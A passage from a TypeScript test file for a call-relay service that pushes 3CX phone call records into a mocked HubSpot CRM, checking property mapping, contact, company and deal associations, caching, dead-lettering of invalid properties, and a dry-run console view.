      hs.callProperties.set('call_queue', { type: 'enumeration', options: ['800', '801'] });
      hs.callProperties.set('call_rank', { type: 'number' });
      const jana = hs.addContact({ firstname: 'Jana', phone: '+420 774 852 629' });
      const other = hs.addContact({ firstname: 'Petr', phone: '+420 600 000 000' });
      // The company associated first is not the primary one; HubSpot's "Primary" label decides.
      hs.addCompany('Older Ltd', jana);
      const acme = hs.addCompany('Acme', jana, true);
      hs.addDeal({ name: 'old', contactId: jana, updatedAt: '2026-01-01T00:00:00Z' });
      const latest = hs.addDeal({
        name: 'latest',
        contactId: jana,
        updatedAt: '2026-03-01T00:00:00Z',
      });
      // Look-alikes: a closed deal updated later, and another contact's open deal updated last.
      hs.addDeal({ name: 'won', contactId: jana, closed: true, updatedAt: '2026-04-01T00:00:00Z' });
      hs.addDeal({ name: 'petr', contactId: other, updatedAt: '2026-05-01T00:00:00Z' });

      for (const r of answered().requests) await send('3cx', r);
      await settle();
      const [call] = [...hs.calls.values()];
      const p = call!.properties;
      expect(p.hs_call_title).toMatch(/^Anruf \d\d:\d\d · Inbound call from \+420774852629/);
      expect(p.hs_call_body).toMatch(
        /<small>callrelay 3cx\/230115121143_9<\/small><br><b>Queue:<\/b> 800$/,
      );
      expect(p.call_queue).toBe('800');
      expect(p.call_rank).toBe('3');
      expect(p).not.toHaveProperty('hs_call_disposition');
      expect(p.hs_call_external_id).toBe('callrelay:3cx:230115121143_9');
      const to = (typeId: number): string[] =>
        call!.associations
          .filter((a) => a.types.some((t) => t.associationTypeId === typeId))
          .map((a) => a.to.id);
      expect(to(194)).toEqual([jana]);
      expect(to(182)).toEqual([acme]);
      expect(to(206)).toEqual([latest]);

      // The next call from the same contact: company and deal come from the cache.
      const reads = hs.log.filter((l) => l.path.startsWith('/crm/v4/')).length;
      const second = goldenCases().find((c) => c.flow.name === '3cx-get-incoming-missed')!.flow;
      for (const r of second.requests) await send('3cx', r);
      await settle();
      expect(hs.calls.size).toBe(2);
      expect(hs.log.filter((l) => l.path.startsWith('/crm/v4/')).length).toBe(reads);
      expect(hs.count('POST', '/crm/v3/objects/deals/batch/read')).toBe(1);
      for (const c of hs.calls.values())
        expect(c.associations.map((a) => a.to.id).sort()).toEqual([jana, acme, latest].sort());
    });

    it('dead-letters a property HubSpot does not have, naming it and the expression, never retrying', async () => {
      const { hs, send, settle, relay, config } = await open(
        ['    properties: |', '      {', '        "call_queue": call.rang[0]', '      }', ''].join(
          '\n',
        ),
      );
      for (const r of answered().requests) await send('3cx', r);
      await settle();
      const [dead] = await relay.store.listDeliveries({ state: 'dead', limit: 5 });
      expect(dead!.attempts).toBe(1);
      expect(dead!.lastError).toBe(
        `delivering call 230115121143_9 (3cx) to hubspot: ${blockPlace(config, 'properties')} properties: HubSpot has no property "call_queue" (PROPERTY_DOESNT_EXIST)`,
      );
      expect(hs.calls.size).toBe(0);

      // Defined, but the value is not one of its options: said the same way.
      hs.callProperties.set('call_queue', { type: 'enumeration', options: ['sales'] });
      const other = goldenCases().find((c) => c.flow.name === '3cx-v2-incoming-answered')!.flow;
      for (const r of other.requests) await send('3cx', r);
      await settle();
      const dead2 = await relay.store.listDeliveries({ state: 'dead', limit: 5 });
      expect(dead2.map((d) => d.lastError)).toContain(
        `delivering call 230307114903_10 (3cx) to hubspot: ${blockPlace(config, 'properties')} properties: HubSpot refused "call_queue": 800 was not one of the allowed options: [sales] (INVALID_OPTION)`,
      );
      expect(hs.calls.size).toBe(0);
    });

    it('in a dry run keeps the shaped bodies, and the console shows them', async () => {
      const { hs, send, settle, relay } = await open(
        `    dryRun: true\n    properties: '{"call_queue": call.rang[0]}'\n`,
      );
      for (const r of answered().requests) await send('3cx', r);
      await settle();
      expect(hs.log).toEqual([]);
      const attempts = await relay.store.listAttempts({
        call: { source: '3cx', callId: '230115121143_9' },
        limit: 50,
      });
      const create = attempts.find(
        (a) => a.method === 'POST' && a.path === '/crm/v3/objects/calls',
      );
      expect(JSON.parse(create!.sent!).properties.call_queue).toBe('800');
      const client = new ConsoleClient(`http://127.0.0.1:${relay.port}`);
      expect((await client.post('/console/sign-in', { token: TOKENS.admin })).status).toBe(303);
      const page = await (await client.request('/console/calls/3cx/230115121143_9')).text();
      expect(page).toContain('&quot;call_queue&quot;: &quot;800&quot;');
    });
  });
});
